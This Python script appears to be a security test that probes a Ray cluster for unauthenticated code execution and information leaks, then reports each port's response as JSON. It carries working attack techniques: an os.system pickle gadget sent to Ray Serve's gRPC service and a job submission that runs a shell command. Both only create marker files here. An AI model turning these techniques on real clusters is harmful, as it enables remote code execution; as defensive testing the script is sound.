"""Attacks a server's ports and files, as the user `nobody`; prints what they answer.

Its argument is JSON: `address`, `ports`, `token` or null, `marks`, `files`. The code
that an attack has run leaves a file in the directory `marks`; `files` are directories
to look into. Prints JSON: a list of answers, each with `attack`, `port` and `answer`.
"""

import http.client
import json
import os
import pickle
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import grpc
from ray.core.generated import gcs_service_pb2
from ray.serve.generated import serve_pb2

NOBODY = 65534
# A busy machine takes its time; what is shut answers at once.
TIMEOUT_SECONDS = 10

# Of each server in Ray a method that needs no arguments.
METHODS = (
    "ray.rpc.CoreWorkerService/GetCoreWorkerStats",
    "ray.rpc.NodeManagerService/GetNodeStats",
    "ray.rpc.NodeInfoGcsService/GetAllNodeInfo",
    "ray.rpc.ReporterService/GetTraceback",
)


class Touch:
    """Makes a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self._path}",)


def attacks(
    address: str, port: int, token: str | None, marks: Path
) -> Iterator[tuple[str, str]]:
    """Try to have a port run code or give something away; yield what it answers."""
    bearer = {"authorization": f"Bearer {token}"} if token else {}

    def post(path: str, body: bytes) -> str:
        try:
            connection = http.client.HTTPConnection(address, port, TIMEOUT_SECONDS)
            headers = {"Content-Type": "application/json", **bearer}
            connection.request("POST", path, body, headers)
            return str(connection.getresponse().status)
        except (OSError, http.client.HTTPException) as error:
            return type(error).__name__

    def call(method: str, request: bytes) -> str:
        with grpc.insecure_channel(f"{address}:{port}") as channel:
            function = channel.unary_unary(f"/{method}")
            try:
                function(
                    request, timeout=TIMEOUT_SECONDS, metadata=tuple(bearer.items())
                )
            except grpc.RpcError as error:
                return str(error.code().name)
            return "OK"

    job = json.dumps({"entrypoint": f"touch {marks / f'job-{port}'}"}).encode()
    yield "job", post("/api/job_agent/jobs/", job)
    yield "runtime_env", post("/get_or_create_runtime_env", b"")
    touch = pickle.dumps(Touch(marks / f"pickle-{port}"))
    asgi = serve_pb2.ASGIRequest(pickled_request_metadata=touch)
    yield (
        "pickle",
        call("ray.serve.ASGIService/HandleRequest", asgi.SerializeToString()),
    )
    keys = gcs_service_pb2.InternalKVKeysRequest(namespace=b"fun")
    message = keys.SerializeToString()
    yield "functions", call("ray.rpc.InternalKVGcsService/InternalKVKeys", message)
    for method in METHODS:
        yield method, call(method, b"")


def open_files(directory: Path) -> Iterator[tuple[str, str]]:
    """Yield what this user can read below a directory, or write to."""
    for path in (directory, *directory.rglob("*")):
        if not path.is_symlink() and os.access(path, os.R_OK | os.W_OK):
            yield "file", str(path)


def main() -> None:
    """Attack all ports at once, and look into the directories."""
    what = json.loads(sys.argv[1])
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)

    def attack(port: int) -> list[dict[str, Any]]:
        found = attacks(what["address"], port, what["token"], Path(what["marks"]))
        return [{"port": port, "attack": name, "answer": said} for name, said in found]

    with ThreadPoolExecutor(max(1, len(what["ports"]))) as pool:
        answers = [each for found in pool.map(attack, what["ports"]) for each in found]
    for directory in what["files"]:
        answers += [
            {"port": 0, "attack": name, "answer": said}
            for name, said in open_files(Path(directory))
        ]
    print(json.dumps(answers))


if __name__ == "__main__":
    main()
